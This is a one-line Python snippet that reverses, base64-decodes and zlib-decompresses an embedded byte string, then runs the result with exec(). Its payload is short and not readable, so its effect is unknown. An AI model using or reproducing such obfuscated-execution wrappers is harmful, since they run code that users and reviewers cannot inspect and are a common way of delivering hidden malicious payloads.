_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==QGGWzFNzVSLg5KEsl0oRXMfRn0rVHJA1Ed7sYAmZVpo4XMSw6F4u6MZgSbZCeA8zc'))
